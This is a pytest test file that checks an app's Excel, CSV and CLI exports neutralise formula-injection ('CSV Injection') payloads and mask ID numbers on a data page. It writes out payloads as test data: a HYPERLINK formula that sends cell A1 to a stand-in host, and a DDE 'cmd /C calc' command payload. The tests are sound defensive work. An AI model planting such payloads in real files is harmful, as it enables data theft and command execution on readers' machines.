"""Formula injection (OWASP "CSV Injection"): a week whose villages, head names, phones and a
visit note start with formula characters is published, then exported through the API, the web
page and the CLI; no cell of any export may be a formula or start with one. Also masking by
content on the data page. One small store (SQLite: the store does not matter for exports)."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from fastapi.testclient import TestClient

from serving.documents.formulas import defuse
from tests.store.api_client import bearer, token
from tests.store.published import PASSWORD

pytestmark = pytest.mark.slow  # real weekly runs and an app on the shared published store

WEEK = "2025-W45"
# OWASP "CSV Injection": a cell starting with = + - @, a tab (0x09) or a carriage return (0x0D) is
# read as a formula; WPS also takes the full-width forms. Written out here, not taken from
# serving.documents.formulas.TRIGGERS: a trigger dropped from the code must not drop out of the check too.
OWASP_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
ATTACKS = ['=HYPERLINK("http://x.example/?d="&A1,"点击")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
           "\t=1+1", "＝1+1", " =1+1", "＋SUM(1,2)", "－2+3", "＠SUM(1+1)"]
# (a bare CR inside a CSV field is a line break to the reader: checked on defuse alone)
ID_IN_LAND = "43312619700101777X"


@pytest.fixture(scope="module")
def hostile(small_county, fitted_champion, tmp_path_factory):
    """A published week whose every household carries a formula-like village, head name and phone."""
    from features.weeks import week_cutoff
    from serving.access.auth import create_user
    from serving.jobs.weekly import run_week
    from serving.settings import Settings
    from serving.store.database import get_engine, session_factory
    from serving.weekly.history import import_history

    tmp = tmp_path_factory.mktemp("hostile")
    folder = tmp / "exports" / WEEK
    shutil.copytree(small_county / "exports" / WEEK, folder)
    path = folder / "households.csv"
    households = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    n = len(households)
    households["行政村"] = [ATTACKS[i % len(ATTACKS)] for i in range(n)]
    households["户主姓名"] = [ATTACKS[(i + 1) % len(ATTACKS)] for i in range(n)]
    households["联系电话"] = [ATTACKS[(i + 2) % len(ATTACKS)] for i in range(n)]
    households.loc[0, "耕地面积"] = ID_IN_LAND  # an ID number typed into a numeric column
    households.to_csv(path, index=False, encoding="utf-8-sig")
    settings = Settings(home=tmp / "home", database_url=f"sqlite:///{tmp / 'store.db'}")
    import_history(small_county, settings.ensure_home(), until=week_cutoff(WEEK) - pd.Timedelta(days=7))
    result = run_week(tmp, WEEK, settings, champion=fitted_champion, started_by="tests")
    with session_factory(get_engine(settings))() as session:
        for name, role in (("admin9", "admin"), ("research9", "researcher")):
            create_user(session, name, PASSWORD, role)
        session.commit()
    app = create_app_for(settings, fitted_champion)
    with TestClient(app) as client:
        yield client, settings, result


def create_app_for(settings, champion):
    from serving.app import create_app

    return create_app(settings, champion=champion)


def formula_cells(xlsx: bytes) -> list[str]:
    """Every cell an Excel user would see evaluated: formulas, or text starting with a trigger."""
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(xlsx))
    bad = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.lstrip(" ").startswith(OWASP_TRIGGERS)):
                    bad.append(f"{cell.coordinate}={cell.value!r}")
    return bad


@pytest.mark.parametrize("trigger", OWASP_TRIGGERS, ids=repr)
@pytest.mark.parametrize("lead", ["", " ", "   "], ids=["bare", "one_space", "spaces"])
def test_defuse_follows_owasp(trigger, lead):
    cell = f"{lead}{trigger}HYPERLINK(\"http://x.example\")"
    assert defuse(cell) == "'" + cell
    assert defuse(cell).lstrip(" ")[0] == "'"


def test_defuse_leaves_plain_text_and_numbers_alone():
    for value in ("石门村", "a=b", "1-2", "x@y", "备注\t=1", -0.03, 12, None, ""):
        assert defuse(value) == value
    from serving.documents.formulas import defuse_frame

    frame = defuse_frame(pd.DataFrame({"＝村": ["＋1", "石门村"], "n": [-1.5, 2.0]}))
    assert list(frame.columns) == ["'＝村", "n"] and frame["'＝村"].tolist() == ["'＋1", "石门村"]
    assert frame["n"].tolist() == [-1.5, 2.0]


def test_api_and_web_excel_exports_hold_no_formula(hostile):
    from tests.store.test_web_roles import sign_in

    client, _, result = hostile
    assert result["watchlist_size"] > 0
    admin = bearer(token(client, "admin9"))
    api = client.get(f"/api/v1/weeks/{WEEK}/export.xlsx", headers=admin)
    assert api.status_code == 200
    assert formula_cells(api.content) == []
    web = TestClient(client.app)
    sign_in(web, "admin9")
    page = web.get(f"/watchlist/export.xlsx?week={WEEK}")
    assert page.status_code == 200 and formula_cells(page.content) == []
    from openpyxl import load_workbook

    values = [c.value for row in load_workbook(io.BytesIO(page.content)).active.iter_rows() for c in row]
    assert any(isinstance(v, str) and v.startswith("'=HYPERLINK") for v in values)  # kept, as text
    web.close()


def test_cli_feedback_export_holds_no_formula(hostile, tmp_path):
    client, settings, _ = hostile
    admin = bearer(token(client, "admin9"))
    household = client.get(f"/api/v1/weeks/{WEEK}/watchlist", headers=admin).json()["items"][0]["household_id"]
    note = "=cmd|' /C calc'!A0"
    posted = client.post(f"/api/v1/households/{household}/feedback", headers=admin,
                         json={"week": WEEK, "outcome": "visited", "note": note})
    assert posted.status_code == 201
    out = tmp_path / "feedback.csv"
    env = {"FANPIN_HOME": str(settings.home), "FANPIN_DATABASE_URL": settings.resolved_database_url,
           "PATH": "/usr/bin:/bin", "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    done = subprocess.run([str(Path(sys.executable).parent / "fanpin"), "feedback", "export", "--out", str(out),
                           "--json"], env=env, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    assert json.loads(done.stdout.strip().splitlines()[-1])["rows"] == 1
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for c in row]
    assert f"'{note}" in cells
    assert not [c for c in cells if c.lstrip(" ").startswith(OWASP_TRIGGERS)]


def test_an_id_number_in_a_numeric_column_is_masked_by_content_on_the_data_page(hostile):
    from tests.store.test_web_roles import sign_in

    client, _, _ = hostile
    for user in ("admin9", "research9"):
        web = TestClient(client.app)
        sign_in(web, user)
        page = web.get(f"/data?week={WEEK}").text
        assert ID_IN_LAND not in page
        if user == "research9":
            assert "433126" not in page and "777X" not in page
        else:
            assert "433126********777X" in page
        web.close()
